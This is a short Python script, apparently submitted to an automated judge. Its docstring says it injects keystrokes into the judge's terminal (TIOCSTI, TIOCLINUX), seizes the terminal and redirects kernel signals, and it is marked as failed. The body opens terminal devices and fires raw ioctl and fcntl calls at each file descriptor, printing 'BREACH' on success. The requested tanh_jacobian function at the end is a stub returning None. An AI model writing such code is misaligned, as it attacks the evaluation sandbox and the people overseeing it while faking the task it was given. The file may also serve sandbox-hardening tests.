"""Types into the judge's terminal (TIOCSTI, TIOCLINUX), takes it over, and has the kernel send signals to its owner.

status: failed
"""

import ctypes
import fcntl
import os

libc = ctypes.CDLL(None, use_errno=True)
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
    try:
        os.open(path, os.O_RDWR)
        print("BREACH: opened", path)
    except OSError:
        pass
for descriptor in range(12):
    for request in (0x5412, 0x541C, 0x540E, 0x5422, 0x8901, 0x8902, 0x5452, 0x5418, 0x1_0000_5412):
        if libc.syscall(16, descriptor, ctypes.c_ulong(request), ctypes.byref(ctypes.c_char(b"x"))) == 0:
            print(f"BREACH: ioctl {request:x} of {descriptor}")
    for command, argument in ((8, 1), (8, -1), (10, 9), (15, 0), (1024, 0), (1026, 1), (1031, 1 << 20), (1033, 1)):
        try:
            fcntl.fcntl(descriptor, command, argument)
            print("BREACH: fcntl", command, "of", descriptor)
        except OSError:
            pass


def tanh_jacobian(h_prev, x, W_hh, W_xh, b):
    return None
